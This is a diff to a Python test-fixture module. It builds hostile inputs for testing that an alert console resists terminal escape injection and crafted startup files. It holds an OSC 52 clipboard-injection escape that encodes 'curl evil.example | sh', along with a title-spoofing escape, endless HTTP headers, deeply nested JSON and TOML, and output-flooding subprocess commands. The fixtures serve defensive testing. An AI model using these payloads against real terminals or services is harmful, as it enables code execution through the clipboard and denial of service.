@@ -1,10 +1,14 @@
 """The hostile corpus: text an attacker who controls alert content (or a broken service) sends,
-and the check that none of it reaches a terminal stream raw."""
+and the check that none of it reaches a terminal stream raw; and the crafted files on disk
+(caches, config, themes, token commands) that once stopped or stalled the start."""
 
 from __future__ import annotations
 
 import base64
+import json
 import re
+import sys
+from pathlib import Path
 
 OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x1b\\"
 OSC_TITLE = "\x1b]2;you have been pwned\x1b\\"
@@ -88,3 +92,69 @@ BOUNDED_HEADS: dict[str, bytes] = {
     "a header without end": b"GET / HTTP/1.1\r\nHost: x\r\nX-Endless: " + b"a" * 100_000,
     "controls in the URL": b"GET /" + OSC_TITLE.encode() + b" HTTP/1.1\r\nHost: x\r\n\r\n",
 }
+
+
+# ---------------------------------------------------------------------- crafted files
+# Files on disk that stopped or stalled the start (issue 17), for the tests that start the
+# console against them. Numbers are written as JSON's readers meet them: ``Infinity`` is
+# what Python's json writes for float("inf") and reads back by default.
+
+INFINITY = "Infinity"
+DEEP_JSON = "[" * 100_000 + "]" * 100_000  # a page cache: RecursionError, exit status 0
+DEEP_TOML = "views = " + "[" * 3_000 + "]" * 3_000 + "\n"  # a config: a raw traceback
+NOT_UTF8_THEME = b"primary = '#d03030'\n# caf\xe9\n"  # Latin-1, named without its file
+BIG_THEME_BYTES = 22 * 1024 * 1024  # added 2.6 s to the start
+UNCLOSED_ALERT_URL = "{site_url}/jira/{id"  # passed config check, then "b" raised
+PRIORITIES = ("P1", "P2", "P3", "P4", "P5")
+
+
+def page_cache(
+    site: str, key: str, *, count: str = "0", extra: str = "{}", values: str = "[]"
+) -> str:
+    """A kept page as the page cache writes it, ``count``, ``extra`` and ``values`` as raw
+    JSON."""
+    head = json.dumps({"version": 1, "site": site, "key": key, "at": "2024-05-01T10:00:00+00:00"})
+    rest = f'"values": {values}, "count": {count}, "offset": 0, "size": 50, "extra": {extra}'
+    return f"{head[:-1]}, {rest}}}"
+
+
+def wall_counts(p1: str) -> str:
+    """The wall's counts kept beside a page (its ``extra``), P1 given as raw JSON."""
+    unacked = ", ".join(f'"{p}": {p1 if p == "P1" else 0}' for p in PRIORITIES)
+    return f'{{"counts": {{"unacked": {{{unacked}}}, "acked": 0}}}}'
+
+
+def trend(at: float, p1: str) -> str:
+    """One trend point at ``at`` (epoch seconds), P1 given as raw JSON."""
+    counts = ", ".join(f'"{p}": {p1 if p == "P1" else 0}' for p in PRIORITIES)
+    return f"[[{at}, {{{counts}}}]]"
+
+
+def flood_command(gigabytes: float) -> list[str]:
+    """A token_command printing ``gigabytes`` on one line, a megabyte at a time."""
+    script = (
+        "import sys\nchunk = b'x' * (1 << 20)\n"
+        f"for _ in range(int({gigabytes} * 1024)):\n    sys.stdout.buffer.write(chunk)\n"
+    )
+    return [sys.executable, "-c", script]
+
+
+def error_flood_command(gigabytes: float, last_line: str, status: int) -> list[str]:
+    """A failing token_command: ``gigabytes`` of errors, then ``last_line``, then ``status``."""
+    script = (
+        "import sys\nchunk = b'e' * (1 << 20)\n"
+        f"for _ in range(int({gigabytes} * 1024)):\n    sys.stderr.buffer.write(chunk)\n"
+        f"sys.stderr.write('\\n{last_line}\\n'); sys.exit({status})\n"
+    )
+    return [sys.executable, "-c", script]
+
+
+def long_line_command(size: int) -> list[str]:
+    """A token_command whose first line is ``size`` bytes."""
+    return [sys.executable, "-c", f"print('t' * {size})"]
+
+
+def token_then_background(token: str, pid_file: Path, seconds: int = 30) -> list[str]:
+    """``echo TOKEN; sleep 30 &``: the token at once, a child holding the pipe open (its pid
+    written to ``pid_file``, for the test to end it)."""
+    return ["sh", "-c", f"echo {token}; sleep {seconds} & echo $! > {pid_file}"]
